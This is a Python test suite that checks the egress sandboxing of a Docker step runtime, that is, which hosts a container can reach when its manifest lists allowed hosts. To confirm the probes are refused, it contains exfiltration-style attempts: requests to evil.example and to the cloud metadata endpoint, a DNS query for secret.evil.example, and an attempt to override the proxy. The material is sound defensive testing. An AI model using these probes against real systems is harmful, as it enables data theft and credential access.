"""What a step's container reaches when its connector's manifest lists hosts, on a real engine."""

from __future__ import annotations

import http.server
import json
import logging
import os
import socket
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from uuid import uuid4

import docker
import pytest
from harness import BASE_IMAGE, PATIENCE, build_image, wait_until

from flowmate_airflow.runtimes.base import Job, Limits, RuntimeFailure
from flowmate_airflow.runtimes.docker import DockerRuntime
from flowmate_airflow.runtimes.egress.helper import LABEL
from flowmate_airflow.runtimes.egress.rules import Egress, hosts_of
from flowmate_airflow.runtimes.hardening import labels_digest
from flowmate_airflow.runtimes.options import ContainerOptions

LOG = logging.getLogger("test.egress")
SESSION = f"egress-{uuid4().hex}"
LABELS = {name: {"flowmate.test": SESSION, "step": name} for name in ("step", "other")}
DIGESTS = {labels_digest(Job("", (), labels=labels)) for labels in LABELS.values()}
OPTIONS = ContainerOptions(default_network="bridge", egress_image=BASE_IMAGE)


@pytest.fixture(scope="module")
def client(engine: None) -> docker.APIClient:
    found = docker.APIClient(base_url=os.environ.get("DOCKER_HOST", "unix:///var/run/docker.sock"), version="auto")
    if not found.images(BASE_IMAGE):
        pytest.fail(f"these tests need the image {BASE_IMAGE}")
    return found


@pytest.fixture(autouse=True)
def nothing_is_left(client: docker.APIClient) -> Iterator[None]:
    """Fails when a test leaves a container or a helper behind."""
    yield
    _wait_for_their_end(client)
    assert not client.containers(all=True, filters={"label": f"flowmate.test={SESSION}"})


class _Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = json.dumps({"path": self.path, "host": self.headers["Host"], "proxied": "Via" in self.headers}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *arguments: object) -> None:
        pass


@pytest.fixture(scope="module")
def service() -> Iterator[int]:
    """The port of a web service of the worker's machine, on all its addresses."""
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    thread.join()
    server.server_close()


def _helpers(client: docker.APIClient) -> set[str]:
    """Return the helpers of this session's steps: others may run the same tests on the same engine."""
    found = client.containers(all=True, filters={"label": LABEL})
    return {str(each["Id"]) for each in found if each["Labels"][LABEL] in DIGESTS}


def _wait_for_their_end(client: docker.APIClient) -> None:
    wait_until("the end of the helpers", lambda: None if _helpers(client) else True)


def _egress(*hosts: str, private: bool = True) -> Egress:
    return Egress("shop", hosts_of(hosts), private=private)


def _job(code: str, egress: Egress | None, image: str = BASE_IMAGE, **more: Any) -> Job:
    command = ("python3", "-c", textwrap.dedent(code))
    return replace(Job(image, command, labels=LABELS["step"], limits=Limits(stop_grace=0.5), egress=egress), **more)


def _run(client: docker.APIClient, job: Job, options: ContainerOptions = OPTIONS) -> list[Any]:
    """Return the lines that a component printed, as JSON."""
    with DockerRuntime(client, log=LOG, pull="never", options=options).start(job, ()) as running:
        lines = list(running.lines())
        assert running.wait() == 0, lines
    return [json.loads(line) for stream, line in lines if stream == "stdout"]


ASK = """
    import json, socket, urllib.error, urllib.request
    def get(url, **proxies):
        try:
            opener = urllib.request.build_opener(*([] if not proxies else [urllib.request.ProxyHandler({})]))
            print(json.dumps(json.loads(opener.open(url, timeout=30).read())))
        except urllib.error.HTTPError as error:
            print(json.dumps([error.code, error.read().decode()]))
        except OSError as error:
            print(json.dumps(str(error)))
    def connect(host, port):
        try:
            socket.create_connection((host, port), 5).close()
            print(json.dumps(True))
        except OSError as error:
            print(json.dumps(str(error)))
"""


def test_listed_hosts_are_reached_with_a_proxy_and_without(client: docker.APIClient, service: int) -> None:
    code = f"""{ASK}
    get("http://localhost:{service}/by-proxy")
    get("http://127.0.0.1:{service}/direct", without=True)
    """
    assert _run(client, _job(code, _egress(f"localhost:{service}", f"127.0.0.1:{service}"))) == [
        {"path": "/by-proxy", "host": f"localhost:{service}", "proxied": False},
        {"path": "/direct", "host": f"127.0.0.1:{service}", "proxied": False},
    ]


def test_what_is_not_listed_is_refused_with_a_sentence(
    client: docker.APIClient, service: int, caplog: pytest.LogCaptureFixture
) -> None:
    code = f"""{ASK}
    get("http://127.0.0.1:{service}/")
    get("https://evil.example/")
    get("http://169.254.169.254/latest/meta-data/")
    """
    refused = _run(client, _job(code, _egress("api.shop.example")))
    told = [text for text in caplog.messages if "which is not among the hosts of shop's manifest" in text]
    assert refused == [
        [403, f"{told[0]}\n"],
        f"<urlopen error Tunnel connection failed: 403 Forbidden: {told[1]}>",
        [403, f"{told[2]}\n"],
    ]
    assert [text.split(",")[0].rsplit(" ")[-1] for text in told] == [
        f"127.0.0.1:{service}",
        "evil.example:443",
        "169.254.169.254:80",
    ]


def test_a_listed_name_in_a_private_network_is_refused_where_the_manifest_wants_public_ones(
    client: docker.APIClient, service: int
) -> None:
    code = f"""{ASK}
    get("http://localhost:{service}/")
    """
    assert _run(client, _job(code, _egress(f"localhost:{service}", private=False))) == [
        [
            403,
            "localhost has no address on the public internet; where it shall be in a private network, the method in "
            "shop's manifest says `private: true`\n",
        ]
    ]


def test_there_is_no_other_way_out(client: docker.APIClient, service: int) -> None:
    """Neither the internet, nor the machine by any of its addresses, nor the DNS, nor another step's container."""
    gateway = client.inspect_network("bridge")["IPAM"]["Config"][0]
    other = """
    import http.server, json, socket
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 8080), http.server.SimpleHTTPRequestHandler)
    print(json.dumps("up"), flush=True)
    input()
    """
    addresses = [gateway.get("Gateway", "172.17.0.1"), "1.1.1.1", "2606:4700:4700::1111", *_own_addresses()]
    go_on = threading.Event()

    def feed() -> Iterator[bytes]:
        go_on.wait(PATIENCE)
        yield b"done\n"

    neighbour = replace(_job(other, None), labels=LABELS["other"])
    with DockerRuntime(client, log=LOG, pull="never", options=OPTIONS).start(neighbour, feed()) as running:
        assert next(running.lines())[1] == b'"up"'
        (found,) = client.containers(filters={"label": [f"flowmate.test={SESSION}", "step=other"]})
        address = client.inspect_container(found["Id"])["NetworkSettings"]["Networks"]["bridge"]["IPAddress"]
        code = f"""{ASK}
    for address in {addresses!r}:
        for port in (53, 80, {service}):
            connect(address, port)
    connect({address!r}, 8080)
    def datagram(host, data):
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); sock.settimeout(2)
            sock.sendto(data, (host, 53)); sock.recv(512); print(json.dumps(True))
        except OSError as error:
            print(json.dumps(str(error)))
    query = bytes.fromhex("123401000001000000000000") + b"\\x06secret\\x04evil\\x07example\\0\\0\\x01\\0\\x01"
    servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
    for server in ["1.1.1.1", "127.0.0.11", {addresses[0]!r}, *servers]:
        if ":" not in server: datagram(server, query)
    try: print(json.dumps(socket.getaddrinfo("secret.evil.example", 443)))
    except OSError as error: print(json.dumps(str(error)))
    print(json.dumps([socket.if_nameindex()]))
    """
        results = _run(client, _job(code, _egress("api.shop.example")))
        # What it would reach without: else all this shows nothing.
        control = _run(
            client, _job(f"{ASK}\n    connect({addresses[0]!r}, {service})\n    connect({address!r}, 8080)", None)
        )
        go_on.set()
    assert control == [True, True]
    assert results[-1] == [[[1, "lo"]]]
    assert len(results) > 15
    assert all(isinstance(result, str) for result in results[:-1]), results


def test_two_steps_share_no_loopback(client: docker.APIClient) -> None:
    """A step that listens where another one's helper is cannot be reached from there."""
    code = """
    import json, socket
    server = socket.create_server(("127.0.0.1", 9999))
    print(json.dumps("up"), flush=True)
    input()
    """
    go_on = threading.Event()

    def feed() -> Iterator[bytes]:
        go_on.wait(PATIENCE)
        yield b"done\n"

    first = replace(_job(code, _egress("a.example")), labels=LABELS["other"])
    with DockerRuntime(client, log=LOG, pull="never", options=OPTIONS).start(first, feed()) as running:
        assert next(running.lines())[1] == b'"up"'
        (refused,) = _run(client, _job(f"{ASK}\n    connect('127.0.0.1', 9999)", _egress("b.example")))
        go_on.set()
    assert "refused" in refused


@pytest.fixture
def shop(service: int, monkeypatch: pytest.MonkeyPatch) -> str:
    """A name with a port that leads to the service, for the worker only: no DNS of a container's knows it."""
    known = socket.getaddrinfo

    def getaddrinfo(host: Any, *rest: Any, **more: Any) -> Any:
        return known("127.0.0.1" if host == "api.shop.example" else host, *rest, **more)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return f"api.shop.example:{service}"


def test_names_lead_clients_that_know_no_proxy_to_the_helper(client: docker.APIClient, shop: str) -> None:
    code = f"""{ASK}
    get("http://{shop}/", without=True)
    get("http://evil.example/", without=True)
    print(json.dumps(socket.gethostbyname("api.shop.example")))
    """
    reached, refused, address = _run(client, _job(code, _egress(shop)))
    assert reached["host"] == shop
    assert "name resolution" in refused
    assert address.startswith("127.1.")


def test_a_program_for_node_reaches_a_listed_host(client: docker.APIClient, shop: str) -> None:
    node = os.environ.get("FLOWMATE_NODE_IMAGE", "flowmate-test/node:latest")
    if not client.images(node):
        pytest.skip(f"there is no image {node}")
    code = f"""
        require("http").get("http://{shop}/from-node", (answer) => {{
          let body = ""; answer.on("data", (chunk) => body += chunk); answer.on("end", () => console.log(body));
        }});
    """
    job = replace(_job("", _egress(shop), node), arguments=(code,), entrypoint=("node", "-e"))
    assert _run(client, job) == [{"path": "/from-node", "host": shop, "proxied": False}]


def test_without_network_stays_without(client: docker.APIClient, service: int) -> None:
    code = f"""{ASK}
    get("http://127.0.0.1:{service}/")
    """
    for options in (replace(OPTIONS, network="none"), replace(OPTIONS, default_network="none")):
        (refused,) = _run(client, _job(code, _egress(f"127.0.0.1:{service}")), options)
        assert "refused" in refused
    assert _helpers(client) == set()


@pytest.mark.parametrize(
    "more",
    [{"network": "host"}, {"privileged": True}, {"dns": ("1.1.1.1",)}, {"extra_hosts": {"a": "1.1.1.1"}}],
    ids=lambda more: next(iter(more)),
)
def test_what_would_open_another_way_is_refused(client: docker.APIClient, more: dict[str, Any]) -> None:
    with pytest.raises(RuntimeFailure, match="cannot be set on a step whose connector lists the hosts") as failure:
        _run(client, _job("", _egress("a.example")), replace(OPTIONS, **more))
    assert failure.value.retry is False


def test_environment_of_the_step_cannot_take_the_proxy_away(client: docker.APIClient) -> None:
    code = "import json, os; print(json.dumps([os.environ['HTTPS_PROXY'], os.environ['NO_PROXY'], os.environ['X']]))"
    options = replace(OPTIONS, environment={"HTTPS_PROXY": "http://evil.example", "NO_PROXY": "*", "X": "1"})
    assert _run(client, _job(code, _egress("a.example")), options) == [["http://127.2.0.1:3128", "", "1"]]


def test_a_helper_without_its_image_or_its_python_says_so(client: docker.APIClient, tmp_path: Path) -> None:
    with pytest.raises(RuntimeFailure, match="there is no image flowmate-test/nowhere"):
        _run(client, _job("", _egress("a.example")), replace(OPTIONS, egress_image="flowmate-test/nowhere:1"))
    (tmp_path / "Dockerfile").write_text('FROM scratch\nCOPY Dockerfile /\nCMD ["/x"]\n')
    build_image(tmp_path, "flowmate-test/empty:1")
    with pytest.raises(RuntimeFailure, match="python3"):
        _run(client, _job("", _egress("a.example")), replace(OPTIONS, egress_image="flowmate-test/empty:1"))


def test_the_helper_starts_whatever_its_image_would_start(
    client: docker.APIClient, service: int, tmp_path: Path
) -> None:
    (tmp_path / "Dockerfile").write_text(
        'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nUSER 1:1\nENV PYTHONPATH=/nowhere\nENTRYPOINT ["/bin/false"]\n'
    )
    build_image(tmp_path, "flowmate-test/stubborn:1")
    code = f"""{ASK}
    get("http://127.0.0.1:{service}/")
    """
    options = replace(OPTIONS, egress_image="flowmate-test/stubborn:1")
    assert _run(client, _job(code, _egress(f"127.0.0.1:{service}")), options)[0]["path"] == "/"


KILLED = """
import docker, logging, sys
from flowmate_airflow.runtimes.base import Job, Limits
from flowmate_airflow.runtimes.docker import DockerRuntime
from flowmate_airflow.runtimes.egress.rules import Egress, hosts_of
from flowmate_airflow.runtimes.options import ContainerOptions
client = docker.APIClient(version="auto", **docker.utils.kwargs_from_env())
job = Job(sys.argv[1], ("python3", "-c", "import time; print('up', flush=True); time.sleep(600)"),
          labels={"flowmate.test": sys.argv[2], "step": "step"}, egress=Egress("shop", hosts_of(["a.example"])))
runtime = DockerRuntime(client, log=logging.getLogger(), options=ContainerOptions(egress_image=sys.argv[1]))
with runtime.start(job, ()) as running:
    for _, line in running.lines():
        print(line.decode(), flush=True)
"""


def test_a_killed_worker_leaves_no_helper_and_the_next_try_no_container(client: docker.APIClient) -> None:
    worker = subprocess.Popen(
        [sys.executable, "-c", KILLED, BASE_IMAGE, SESSION], stdout=subprocess.PIPE, stdin=subprocess.DEVNULL
    )
    with worker:
        assert worker.stdout
        assert worker.stdout.readline() == b"up\n"
        assert len(_helpers(client)) == 1
        worker.kill()
    _wait_for_their_end(client)
    code = f"{ASK}\n    connect('1.1.1.1', 443)"
    job = _job(code, _egress("a.example"))
    assert len(_run(client, job)) == 1


def test_the_helper_is_hardened(client: docker.APIClient) -> None:
    go_on = threading.Event()

    def feed() -> Iterator[bytes]:
        go_on.wait(PATIENCE)
        yield b"done\n"

    with DockerRuntime(client, log=LOG, pull="never", options=OPTIONS).start(
        _job("input()", _egress("a.example")), feed()
    ) as running:
        (helper,) = _helpers(client)
        found = client.inspect_container(helper)
        (step,) = client.containers(filters={"label": f"flowmate.test={SESSION}"})
        ours = client.inspect_container(step["Id"])
        go_on.set()
        assert running.wait() == 0
    host = found["HostConfig"]
    assert (host["NetworkMode"], host["CapDrop"], host["ReadonlyRootfs"]) == ("none", ["ALL"], True)
    assert (host["SecurityOpt"], host["LogConfig"]["Type"]) == (["no-new-privileges"], "none")
    assert found["Config"]["User"] == "65534:65534"
    assert not host["Binds"]
    assert not host["PortBindings"]
    assert ours["HostConfig"]["NetworkMode"] == f"container:{helper}"


def _own_addresses() -> list[str]:
    """Return the addresses of this machine by which others reach it."""
    found = set()
    for family, target in ((socket.AF_INET, "1.1.1.1"), (socket.AF_INET6, "2606:4700:4700::1111")):
        with socket.socket(family, socket.SOCK_DGRAM) as probe:
            try:
                probe.connect((target, 53))  # sends nothing
                found.add(str(probe.getsockname()[0]))
            except OSError:
                continue
    return sorted(found)
